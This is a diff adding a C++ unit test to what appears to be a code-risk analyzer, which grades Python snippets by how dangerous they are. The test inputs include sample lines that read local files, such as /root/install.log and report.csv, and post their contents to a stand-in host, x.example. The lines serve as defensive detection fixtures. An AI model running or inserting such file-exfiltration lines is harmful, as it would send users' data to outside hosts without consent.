@@ -50,3 +50,13 @@ TEST(AssessBindings, APartialThatBindsKeywordsIsTheFunction) {
                   "post('https://x.example/u', data=open('report.csv').read())\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessBindings, APathParameterOpenedForReadingIsRead) {
+  // def read_text(path): with path.open("rb") — what the caller names is read.
+  const std::string reader = "import requests\nfrom pathlib import Path\ndef read_text(path):\n"
+                             "    with path.open('rb') as fh:\n        return fh.read().decode()\n";
+  EXPECT_EQ(level(reader + "requests.post('https://x.example/u', data=read_text(Path('/root/install.log')))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level(reader + "requests.post('https://x.example/u', data=read_text(Path('build/install.log')))\n"),
+            RiskLevel::medium);
+}
